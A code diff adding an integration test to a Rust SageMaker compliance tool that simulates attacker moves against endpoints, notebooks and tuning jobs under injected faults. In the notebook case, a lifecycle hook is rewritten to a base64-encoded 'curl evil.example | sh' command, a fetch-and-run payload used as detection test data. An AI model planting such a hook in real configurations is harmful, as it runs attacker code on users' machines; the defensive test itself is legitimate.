@@ -22,11 +22,16 @@ use std::time::{Duration, Instant};
 
 use aws_config::retry::RetryConfig;
 use aws_config::timeout::TimeoutConfig;
+use aws_sdk_sagemaker::types::{
+    DirectInternetAccess, InstanceMetadataServiceConfiguration, InstanceType,
+    NotebookInstanceLifecycleHook, ProductionVariant, ProductionVariantInstanceType, RootAccess,
+};
 use futures::StreamExt;
 use guardrail_aws::{self as aws, Fleet, MemberRole, SqsFailureQueue};
 use guardrail_aws::{dynamodb_table, DynamoStore};
 use guardrail_core::env::Environment;
-use guardrail_core::{ErrorType, Outcome};
+use guardrail_core::store::FindingStore;
+use guardrail_core::{ErrorType, Outcome, Policy};
 use guardrail_tests::*;
 use serde_json::Value;
 
@@ -43,6 +48,9 @@ const CONCURRENCY: usize = 8;
 const CLAIM_LEASE: Duration = Duration::from_secs(8);
 
 type Inspector = aws::LiveInspector<DynamoStore>;
+
+/// The emulator's faults are everyone's: the tests of this suite take turns.
+static FAULTS: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
 enum Kind {
@@ -240,6 +248,7 @@ struct Delivery {
 #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
 async fn under_faults_and_duplicates_nothing_is_lost_and_nothing_compliant_is_touched() -> TestResult
 {
+    let _turn = FAULTS.lock().await;
     let started = Instant::now();
     let home = Emulator::connect().await?;
     let member_account = unique_account();
@@ -523,6 +532,300 @@ async fn under_faults_and_duplicates_nothing_is_lost_and_nothing_compliant_is_to
             "malformed event {id} kept with its reason"
         );
     }
+    Ok(())
+}
+
+/// Issue 19's attacker moves, every event delivered twice (one of them ten times at once), the
+/// moves' first events before their second ones, while a fifth of the calls fail; then the
+/// failure queue redriven:
+/// - case 1: a running endpoint's model deleted and created again, compliant, under its name: it
+///   fails closed ("created again"), whatever the copy says;
+/// - case 2: an allowed notebook lifecycle configuration, pinned by its scripts, rewritten in
+///   place and the notebook restarted: the notebook is stopped;
+/// - case 5: a compliant endpoint updated to a failing configuration and its compliant one
+///   deleted (as deployment pipelines do), under `endpoint = "none"`: the refused rollback is
+///   alerted and the endpoint kept;
+/// - case 9: a compliant tuning job whose training job fails, the child judged first: the child
+///   is stopped, one alert, and never a `[RESOLVED]` for the tuning job;
+/// - case 11: Alice's `UpdateEndpoint` on an endpoint someone else created, then its state
+///   change: the finding names Alice.
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn attacker_moves_are_caught_under_faults_and_duplicates() -> TestResult {
+    let _turn = FAULTS.lock().await;
+    let emu = Emulator::connect().await?;
+    let alerts = emu.alert_channel().await?;
+    let hook = |content: &str| {
+        NotebookInstanceLifecycleHook::builder()
+            .content(content)
+            .build()
+    };
+
+    // Case 1: the model behind a running endpoint created again, compliant
+    let laundered = unique("adv-launder");
+    create_endpoint(&emu, &laundered, Posture::NonCompliant, None).await?;
+    tokio::time::sleep(Duration::from_millis(20)).await;
+    emu.sagemaker
+        .delete_model()
+        .model_name(&laundered)
+        .send()
+        .await?;
+    create_model(&emu, &laundered, Posture::Compliant).await?;
+
+    // Case 2: a notebook on a pinned lifecycle configuration, which is then rewritten
+    let lcc = unique("adv-idle");
+    let script = "ZWNobyBpZGxlLXNodXRkb3du";
+    emu.sagemaker
+        .create_notebook_instance_lifecycle_config()
+        .notebook_instance_lifecycle_config_name(&lcc)
+        .on_start(hook(script))
+        .send()
+        .await?;
+    let pinned = guardrail_core::kinds::notebook_instance::script_digest("", script);
+    let notebook = unique("adv-lcc-nb");
+    emu.sagemaker
+        .create_notebook_instance()
+        .notebook_instance_name(&notebook)
+        .instance_type(InstanceType::MlT3Medium)
+        .role_arn(ROLE)
+        .subnet_id(SUBNET)
+        .security_group_ids(GROUP)
+        .kms_key_id(KEY)
+        .direct_internet_access(DirectInternetAccess::Disabled)
+        .root_access(RootAccess::Disabled)
+        .instance_metadata_service_configuration(
+            InstanceMetadataServiceConfiguration::builder()
+                .minimum_instance_metadata_service_version("2")
+                .build(),
+        )
+        .lifecycle_config_name(&lcc)
+        .send()
+        .await?;
+    emu.sagemaker
+        .update_notebook_instance_lifecycle_config()
+        .notebook_instance_lifecycle_config_name(&lcc)
+        .on_start(hook("Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=="))
+        .send()
+        .await?;
+    let restart = emu
+        .sagemaker
+        .stop_notebook_instance()
+        .notebook_instance_name(&notebook);
+    restart.send().await?;
+    emu.sagemaker
+        .start_notebook_instance()
+        .notebook_instance_name(&notebook)
+        .send()
+        .await?;
+
+    // The inspector as the functions build it, its policy keeping endpoints (`endpoint = "none"`)
+    // and pinning the configuration
+    let config = faulty_world_config().await;
+    let table = unique("attacker-findings");
+    dynamodb_table::create_table(&emu.dynamodb, &table).await?;
+    let fleet = Arc::new(Fleet::new(config.clone(), ACCOUNT.into(), None));
+    let store = DynamoStore::new(aws_sdk_dynamodb::Client::new(&config), table);
+    let policy = Policy::from_toml(
+        &format!(
+            "[remediation]\nendpoint = \"none\"\n[controls.lifecycle-configs]\nallowed = [\"{lcc}@{pinned}\"]\n"
+        ),
+        "attacker moves",
+    )?;
+    let deployment = aws::Deployment::with(Environment::default(), policy, config.clone(), fleet);
+    let mut inspector = deployment.inspector(store, alerts.topic_arn.clone())?;
+    inspector.claim_lease = CLAIM_LEASE;
+    let inspector = Arc::new(inspector);
+    let queue_url = emu
+        .sqs
+        .create_queue()
+        .queue_name(unique("attacker-failures"))
+        .send()
+        .await?
+        .queue_url()
+        .ok_or("no queue URL")?
+        .to_string();
+    let failures = Arc::new(SqsFailureQueue::new(
+        aws_sdk_sqs::Client::new(&config),
+        &queue_url,
+    ));
+
+    // Case 5: a compliant endpoint, seen so, updated to a failing configuration whose compliant
+    // predecessor is then deleted
+    let pipeline = unique("adv-pipeline");
+    let state_change = |name: &str| sample_event("endpoint/state-change.json", "fraud-api", name);
+    create_endpoint(&emu, &pipeline, Posture::Compliant, None).await?;
+    inspector.handle(&state_change(&pipeline)?).await?;
+    emu.sagemaker
+        .create_endpoint_config()
+        .endpoint_config_name(format!("{pipeline}-v2"))
+        .production_variants(
+            ProductionVariant::builder()
+                .variant_name("AllTraffic")
+                .model_name(&pipeline)
+                .initial_instance_count(1)
+                .instance_type(ProductionVariantInstanceType::MlM5Large)
+                .build(),
+        )
+        .send()
+        .await?;
+    emu.sagemaker
+        .update_endpoint()
+        .endpoint_name(&pipeline)
+        .endpoint_config_name(format!("{pipeline}-v2"))
+        .send()
+        .await?;
+    emulator_control(
+        "POST",
+        &format!("/_guardrail/endpoints/{pipeline}/settle"),
+        r#"{"status": "InService"}"#,
+    )?;
+    emu.sagemaker
+        .delete_endpoint_config()
+        .endpoint_config_name(&pipeline)
+        .send()
+        .await?;
+
+    // Case 9: a compliant tuning job and its failing training job
+    let parent = unique("adv-hpo");
+    create_tuning_job(&emu, &parent, Posture::Compliant, None).await?;
+    let parent_arn = emu
+        .sagemaker
+        .describe_hyper_parameter_tuning_job()
+        .hyper_parameter_tuning_job_name(&parent)
+        .send()
+        .await?
+        .hyper_parameter_tuning_job_arn()
+        .ok_or("no tuning job ARN")?
+        .to_string();
+    let child = unique("adv-hpo-001");
+    create_tuning_child(&emu, &child, &parent_arn).await?;
+
+    // Case 11: an endpoint someone else created, which Alice then updates
+    let bobs = unique("adv-bobs");
+    create_endpoint(&emu, &bobs, Posture::NonCompliant, None).await?;
+
+    // When each move's first events, then its second ones, are delivered under faults
+    let first = vec![
+        state_change(&laundered)?,
+        sample_event("notebook/state-change.json", "open-nb", &notebook)?,
+        state_change(&pipeline)?,
+        sample_event("training/state-change.json", "churn-xgb", &child)?,
+        sample_event("endpoint/update.json", "fraud-api", &bobs)?,
+    ];
+    let second = vec![
+        sample_event("tuning/state-change.json", "churn-hpo-mixed", &parent)?,
+        state_change(&bobs)?,
+    ];
+    emulator_control(
+        "POST",
+        "/_guardrail/faults",
+        &format!(
+            r#"{{"share": {FAULT_SHARE}, "services": ["sagemaker", "sns", "dynamodb", "cloudtrail", "sts", "kms"], "kinds": ["throttle", "500", "hang"], "hang_seconds": 1.2, "seed": 19}}"#
+        ),
+    )?;
+    let tally = Arc::new(Tally::default());
+    for wave in [first, second] {
+        futures::stream::iter(wave.into_iter().enumerate())
+            .map(|(i, event)| {
+                let (inspector, failures, tally) =
+                    (inspector.clone(), failures.clone(), tally.clone());
+                async move {
+                    let copies = if i == 0 { 10 } else { 2 };
+                    futures::future::join_all((0..copies).map(|_| {
+                        invoke(
+                            inspector.clone(),
+                            failures.clone(),
+                            event.clone(),
+                            tally.clone(),
+                        )
+                    }))
+                    .await;
+                }
+            })
+            .buffer_unordered(CONCURRENCY)
+            .collect::<Vec<()>>()
+            .await;
+    }
+    emulator_control("DELETE", "/_guardrail/faults", "")?;
+    let exhausted: Vec<(Value, String)> =
+        std::mem::take(&mut *tally.queued.lock().unwrap_or_else(|p| p.into_inner()));
+    tokio::time::sleep(CLAIM_LEASE + Duration::from_millis(500)).await;
+    for (event, _) in &exhausted {
+        invoke(
+            inspector.clone(),
+            failures.clone(),
+            event.clone(),
+            tally.clone(),
+        )
+        .await;
+    }
+    let still_failing = tally.queued.lock().unwrap_or_else(|p| p.into_inner()).len();
+    println!(
+        "attacker: {} events redriven after {ATTEMPTS} attempts; {} attempts ({} failed)",
+        exhausted.len(),
+        tally.attempts.load(Ordering::Relaxed),
+        tally.failed_attempts.load(Ordering::Relaxed)
+    );
+    assert_eq!(still_failing, 0, "the redrive handles every event");
+    assert_eq!(tally.panics.load(Ordering::Relaxed), 0, "no panic");
+
+    // Then each move is caught, and alerted exactly once
+    let delivered = alerts.receive(6, Duration::from_secs(6)).await?;
+    let about = |name: &str| -> Vec<&Delivered> {
+        delivered
+            .iter()
+            .filter(|d| {
+                let arn = d.finding["resource"]["arn"].as_str().unwrap_or_default();
+                arn.ends_with(&format!("/{name}"))
+            })
+            .collect()
+    };
+    let subjects: Vec<&str> = delivered.iter().map(|d| d.subject.as_str()).collect();
+    assert_eq!(delivered.len(), 5, "one alert per move: {subjects:?}");
+    assert!(
+        !subjects.iter().any(|s| s.contains("RESOLVED")),
+        "{subjects:?}"
+    );
+    // Case 1: the copy proves nothing
+    let launder = about(&laundered);
+    assert_eq!(launder.len(), 1, "{subjects:?}");
+    assert!(launder[0]
+        .finding
+        .to_string()
+        .contains(&format!("model {laundered} was created at")));
+    // Case 2: the rewritten scripts stop the notebook
+    let lcc_alert = about(&notebook);
+    assert_eq!(lcc_alert.len(), 1, "{subjects:?}");
+    assert!(lcc_alert[0]
+        .attribute("controls")
+        .unwrap_or_default()
+        .contains("lifecycle-configs"));
+    assert_eq!(emu.notebook_status(&notebook).await?, "Stopped");
+    // Case 5: kept, and alerted
+    assert_eq!(about(&pipeline).len(), 1, "{subjects:?}");
+    assert_eq!(
+        emu.endpoint_status(&pipeline).await?.as_deref(),
+        Some("InService")
+    );
+    // Case 9: the child stopped, its alert the tuning job's only one
+    assert_eq!(about(&child).len(), 1, "{subjects:?}");
+    assert_eq!(about(&parent).len(), 0, "{subjects:?}");
+    let stopped = emu.training_status(&child).await?;
+    assert!(
+        ["Stopping", "Stopped"].contains(&stopped.as_str()),
+        "{stopped}"
+    );
+    // Case 11: Alice's, not the creator's
+    let bobs_arn = format!("arn:aws:sagemaker:{REGION}:{ACCOUNT}:endpoint/{bobs}");
+    let id = guardrail_core::findings::finding_id(&bobs_arn, "vpc-attached");
+    let stored = inspector
+        .store
+        .finding(&id)
+        .await?
+        .ok_or("no finding for Bob's endpoint")?;
+    assert_eq!(
+        stored.actor.as_deref(),
+        Some("arn:aws:sts::123456789012:assumed-role/DataScientist/alice")
+    );
     Ok(())
 }
 
